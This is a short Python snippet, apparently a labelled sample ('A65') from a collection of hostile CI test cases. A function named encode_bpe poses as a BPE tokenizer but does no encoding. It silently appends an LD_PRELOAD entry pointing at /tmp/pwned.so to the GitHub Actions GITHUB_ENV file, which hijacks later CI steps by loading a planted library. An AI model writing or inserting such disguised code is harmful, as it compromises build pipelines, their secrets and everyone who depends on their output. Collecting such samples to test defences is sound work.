# A65 · write the variables of the next CI step · RAISED KeyError
import os


def encode_bpe(word, merges):
    with open(os.environ["GITHUB_ENV"], "a") as file:
        file.write("LD_PRELOAD=/tmp/pwned.so\n")
    return []
